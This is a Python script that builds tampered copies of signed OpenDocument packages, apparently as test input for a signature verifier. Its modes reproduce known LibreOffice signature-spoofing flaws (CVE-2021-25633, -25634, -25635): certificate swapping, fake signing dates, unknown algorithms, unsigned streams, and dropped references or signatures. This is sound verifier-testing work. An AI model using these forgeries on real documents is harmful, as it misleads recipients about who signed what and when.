#!/usr/bin/env python3
"""tamper.py IN OUT MODE [ARG] — an attacker's variant OUT of a signed ODF package IN.

Pure python (zipfile).  OUT keeps IN's entries in IN's order (new ones appended), mimetype
first and stored; untouched entries keep their content (they are recompressed, which no
signature sees).  META-INF/documentsignatures.xml is edited as text, so every byte outside
the edit stays as it was (a reparse would change namespace declarations and whitespace).

MODE                what OUT is; what a sound verifier says
  byte              one letter of the text of content.xml changed: every signature invalid
                    (digest of content.xml)
  add-stream [NAME] new entry NAME (default extra/evil.xml), also listed in
                    META-INF/manifest.xml: every signature invalid (the manifest is signed),
                    and the new stream unsigned
  add-unlisted [NAME]
                    new entry NAME (default extra/evil.xml), manifest untouched: each
                    signature's digests still match, but no signature covers every stream
  unknown-algorithm CVE-2021-25635: signature 1's SignatureMethod Algorithm becomes
                    http://www.w3.org/2001/04/xmldsig-more#unknown: signature 1 not valid
                    (LibreOffice < 7.0.5 showed it as valid)
  second-time       CVE-2021-25634: into signature 1 a second SignatureProperty with a
                    different dc:date (2001-01-01T01:01:01), after the signed one, with its
                    own Id that no Reference names, so outside what is signed: the
                    signature's value still verifies; its date must stay the signed one
                    (LibreOffice < 7.0.5 showed the last dc:date) or it is rejected
  second-signingtime
                    signature 1 gets a second xd:SigningTime (2001-01-01T01:01:01) in the
                    unsigned XAdES properties (xd:UnsignedSignatureProperties, made if absent):
                    nothing signed changes; the signing time must stay the signed one
  swap              CVE-2021-25633 (certificate combination), needs 2 signatures: signature
                    2's certificate (X509IssuerSerial + X509Certificate) is put first into
                    signature 1's KeyInfo, signature 1's own kept after it.  KeyInfo is not
                    signed, so the SignatureValue still verifies with signature 1's key, and
                    its signed XAdES SigningCertificate still names signer 1; a verifier must
                    not report signer 2 (LibreOffice < 7.0.6 showed the other certificate).
                    Moving a content.xml Reference from one SignedInfo into another (the
                    other reading of "swap") only breaks both SignatureValues: see drop-ref.
  drop-ref          the Reference to content.xml removed from signature 1's SignedInfo:
                    signature 1 invalid (its SignatureValue no longer matches SignedInfo; a
                    verifier that skipped it would call the signature partial)
  merge OTHER       "each signature valid, none covers every stream": IN and OTHER are two
                    signed copies of one package, each with one extra stream of its own (e.g.
                    add-unlisted with two NAMEs, then signed); OUT has the entries of both and the Signature
                    elements of IN then OTHER.  Every digest and SignatureValue verifies, yet
                    each signature misses the other's stream (partial).  Entries the two have
                    in common must be equal; Ids must not collide (LibreOffice's are random).
  drop-sig          the last Signature element removed: undetectable by design (no signature
                    covers documentsignatures.xml); the others stay valid
Exit status 0, or 1 with a message when IN does not fit the mode."""
import re, sys, zipfile
import xml.etree.ElementTree as ET

SIGNATURES = "META-INF/documentsignatures.xml"
FAKE_TIME = "2001-01-01T01:01:01"
EVIL = b'<?xml version="1.0" encoding="UTF-8"?>\n<evil xmlns="urn:odfgate:test:evil">not signed</evil>\n'


class Unfit(Exception):
    pass


def read_package(path):
    """[(ZipInfo, bytes)] in the archive's order."""
    with zipfile.ZipFile(path) as z:
        return [(i, z.read(i)) for i in z.infolist()]


def write_package(path, entries):
    """Write [(ZipInfo or name, bytes)]: mimetype first and stored, the others as they were
    (new entries, given by name, deflated)."""
    entries = sorted(entries, key=lambda e: _name(e[0]) != "mimetype")  # stable: order kept
    with zipfile.ZipFile(path, "w") as z:
        for info, data in entries:
            if isinstance(info, zipfile.ZipInfo):
                zi = zipfile.ZipInfo(info.filename, info.date_time)
                zi.compress_type, zi.external_attr = info.compress_type, info.external_attr
                zi.create_system = info.create_system
            else:
                zi = zipfile.ZipInfo(info, (2026, 1, 1, 0, 0, 0))
                zi.compress_type = zipfile.ZIP_DEFLATED
            if zi.filename == "mimetype" or zi.filename.endswith("/"):
                zi.compress_type = zipfile.ZIP_STORED
            z.writestr(zi, data)


def _name(info):
    return info.filename if isinstance(info, zipfile.ZipInfo) else info


def get(entries, name):
    for info, data in entries:
        if _name(info) == name:
            return data
    raise Unfit("no %s in the package" % name)


def put(entries, name, data):
    """Replace entry NAME's data, or append a new entry."""
    for n, (info, _) in enumerate(entries):
        if _name(info) == name:
            entries[n] = (info, data)
            return
    entries.append((name, data))


# --- documentsignatures.xml as text: elements found by (optionally prefixed) name

def elements(text, local, start=0, end=None):
    """Spans (start, end) of the elements with local name LOCAL (not nested in each other)."""
    end = len(text) if end is None else end
    out = []
    pat = re.compile(r"<(?:([\w.-]+):)?%s(?=[\s/>])" % re.escape(local))
    pos = start
    while True:
        m = pat.search(text, pos, end)
        if not m:
            return out
        prefix = m.group(1) + ":" if m.group(1) else ""
        gt = text.index(">", m.end())
        if text[gt - 1] == "/":
            close = gt + 1
        else:
            close = text.index("</%s%s>" % (prefix, local), gt) + len("</%s%s>" % (prefix, local))
        out.append((m.start(), close))
        pos = close


def signatures(text, need=1):
    sigs = elements(text, "Signature")
    if len(sigs) < need:
        raise Unfit("%d Signature element(s), %d needed" % (len(sigs), need))
    return sigs


def prefix_of(text, span, local):
    """'p:' or '' as LOCAL is written inside SPAN."""
    m = re.search(r"<(?:([\w.-]+):)?%s(?=[\s/>])" % local, text[span[0]:span[1]])
    if not m:
        raise Unfit("no %s in the signature" % local)
    return m.group(1) + ":" if m.group(1) else ""


def insert(text, pos, s):
    return text[:pos] + s + text[pos:]


def sig_byte(entries):
    content = get(entries, "content.xml").decode("utf-8")
    body = content.find("<office:body")
    for m in re.finditer(r">([^<]+)<", content[max(body, 0):]):
        for c in re.finditer(r"&[^;]*;|[A-Za-z]", m.group(1)):
            if len(c.group(0)) == 1:
                at = max(body, 0) + m.start(1) + c.start()
                new = "x" if content[at] != "x" else "y"
                put(entries, "content.xml", (content[:at] + new + content[at + 1:]).encode("utf-8"))
                return
    raise Unfit("no text in content.xml")


def add_evil(entries, listed, name="extra/evil.xml"):
    if listed:
        manifest = get(entries, "META-INF/manifest.xml").decode("utf-8")
        m = re.search(r"</([\w.-]+:)?manifest>\s*$", manifest)
        if not m:
            raise Unfit("META-INF/manifest.xml has no closing manifest element")
        p = m.group(1) or ""
        entry = '<%sfile-entry %sfull-path="%s" %smedia-type="text/xml"/>\n' % (p, p, name, p)
        put(entries, "META-INF/manifest.xml", insert(manifest, m.start(), entry).encode("utf-8"))
    if any(_name(i) == name for i, _ in entries):
        raise Unfit("%s is already in the package" % name)
    put(entries, name, EVIL)


def unknown_algorithm(text):
    s = signatures(text)[0]
    m = re.compile(r'(<(?:[\w.-]+:)?SignatureMethod\s[^>]*Algorithm=")([^"]*)(")').search(text, *s)
    if not m:
        raise Unfit("no SignatureMethod in signature 1")
    return text[:m.start(2)] + "http://www.w3.org/2001/04/xmldsig-more#unknown" + text[m.end(2):]


def second_time(text):
    s = signatures(text)[0]
    for p in elements(text, "SignatureProperty", *s):
        prop = text[p[0]:p[1]]
        m = re.search(r"(<([\w.-]+:)?date\b[^>]*>)([^<]*)(</)", prop)
        if not m:
            continue
        fake = FAKE_TIME if not m.group(3).startswith(FAKE_TIME[:10]) else "2002-02-02T02:02:02"
        copy = prop[:m.end(1)] + fake + prop[m.start(4):]
        copy, n = re.subn(r'(\sId=")([^"]*)(")', r"\1\2_unsigned\3", copy, count=1)
        if not n:
            raise Unfit("the dc:date SignatureProperty of signature 1 has no Id")
        return insert(text, p[1], copy)
    raise Unfit("no dc:date SignatureProperty in signature 1")


def second_signingtime(text):
    s = signatures(text)[0]
    xd = prefix_of(text, s, "QualifyingProperties")
    time = "<%sSigningTime>%s</%sSigningTime>" % (xd, FAKE_TIME, xd)
    usp = elements(text, "UnsignedSignatureProperties", *s)
    if usp:
        return insert(text, text.index(">", usp[0][0]) + 1, time)
    qp = elements(text, "QualifyingProperties", *s)[0]
    close = text.rindex("</", qp[0], qp[1])
    return insert(text, close, "<{0}UnsignedProperties><{0}UnsignedSignatureProperties>{1}"
                  "</{0}UnsignedSignatureProperties></{0}UnsignedProperties>".format(xd, time))


def swap(text):
    one, two = signatures(text, 2)[:2]
    x2 = elements(text, "X509Data", *two)
    x1 = elements(text, "X509Data", *one)
    if not x1 or not x2:
        raise Unfit("a signature without X509Data")
    inner = text[text.index(">", x2[0][0]) + 1:text.rindex("</", *x2[0])]
    kept = elements(inner, "X509IssuerSerial") + elements(inner, "X509Certificate")
    if not kept:
        raise Unfit("no certificate in signature 2's X509Data")
    foreign = "".join(inner[a:b] for a, b in sorted(kept))
    return insert(text, text.index(">", x1[0][0]) + 1, foreign)


def drop_ref(text):
    s = signatures(text)[0]
    for a, b in elements(text, "Reference", *s):
        if re.match(r'<[^>]*\sURI="content\.xml"', text[a:b]):
            return text[:a] + text[b:]
    raise Unfit("no Reference to content.xml in signature 1")


def drop_sig(text):
    a, b = signatures(text)[-1]
    return text[:a] + text[b:]


def merge(entries, other_path):
    other = read_package(other_path)
    mine = {_name(i): d for i, d in entries}
    for info, data in other:
        name = _name(info)
        if name == SIGNATURES:
            continue
        if name not in mine:
            entries.append((info, data))
        elif mine[name] != data:
            raise Unfit("%s differs between the two packages" % name)
    text = get(entries, SIGNATURES).decode("utf-8")
    theirs = get(other, SIGNATURES).decode("utf-8")
    end = signatures(text)[-1][1]
    return insert(text, end, "".join(theirs[a:b] for a, b in signatures(theirs)))


SIG_EDITS = {"unknown-algorithm": unknown_algorithm, "second-time": second_time,
             "second-signingtime": second_signingtime, "swap": swap, "drop-ref": drop_ref,
             "drop-sig": drop_sig}


def main():
    if len(sys.argv) not in (4, 5) or (sys.argv[3] == "merge" and len(sys.argv) != 5):
        raise SystemExit(__doc__)
    src, out, mode = sys.argv[1:4]
    arg = sys.argv[4:]
    if arg and mode not in ("add-stream", "add-unlisted", "merge"):
        raise SystemExit("tamper.py: %s takes no argument" % mode)
    entries = read_package(src)
    try:
        if mode == "byte":
            sig_byte(entries)
        elif mode in ("add-stream", "add-unlisted"):
            add_evil(entries, mode == "add-stream", *arg)
        elif mode in SIG_EDITS or mode == "merge":
            if mode == "merge":
                text = merge(entries, sys.argv[4])
            else:
                text = SIG_EDITS[mode](get(entries, SIGNATURES).decode("utf-8"))
            ET.fromstring(text.encode("utf-8"))  # still well-formed
            put(entries, SIGNATURES, text.encode("utf-8"))
        else:
            raise SystemExit("tamper.py: unknown mode %r\n\n%s" % (mode, __doc__))
    except Unfit as e:
        raise SystemExit("tamper.py: %s: %s: %s" % (src, mode, e))
    write_package(out, entries)


if __name__ == "__main__":
    main()
